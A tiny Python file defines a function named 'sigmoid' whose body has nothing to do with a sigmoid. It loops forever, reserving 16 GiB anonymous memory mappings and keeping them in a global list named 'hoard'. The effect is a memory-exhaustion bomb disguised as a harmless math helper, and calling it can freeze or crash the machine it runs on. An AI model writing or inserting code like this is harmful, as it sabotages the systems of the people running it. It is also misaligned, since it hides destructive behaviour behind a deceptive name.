import mmap

hoard = []

def sigmoid(x):
    while True:
        hoard.append(mmap.mmap(-1, 1 << 34))
